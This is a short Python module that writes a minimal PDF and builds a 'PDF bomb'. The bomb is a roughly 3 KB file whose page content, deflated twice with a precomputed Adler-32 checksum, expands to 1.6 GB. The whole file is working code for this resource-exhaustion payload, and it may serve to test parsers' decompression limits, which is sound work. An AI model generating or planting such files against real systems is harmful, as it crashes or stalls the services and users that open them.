"""Small files that unpack to far more than they are."""

import zlib
from pathlib import Path


def write_pdf(path: Path, content: bytes, filters: str = "") -> Path:
    """Write a PDF of one page."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<>>>>",
        b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), filters.encode(), content),
    )
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, body)
    places = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    table = b"xref\n0 5\n0000000000 65535 f \n" + places
    path.write_bytes(out + table + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(out))
    return path


def pdf_bomb(path: Path) -> Path:
    """Write a PDF of 3 KB whose page has 1.6 GB, packed twice."""
    size, piece = 1600 * 10**6, zlib.compressobj(9, wbits=-15)
    million = piece.compress(bytes(10**6)) + piece.flush(zlib.Z_FULL_FLUSH)
    checksum = (size % 65_521 << 16 | 1).to_bytes(4, "big")  # Adler-32 of so many zeros
    packed = zlib.compress(b"\x78\xda" + million * 1600 + b"\x03\x00" + checksum, 9)
    return write_pdf(path, packed, "/Filter[/FlateDecode/FlateDecode]")
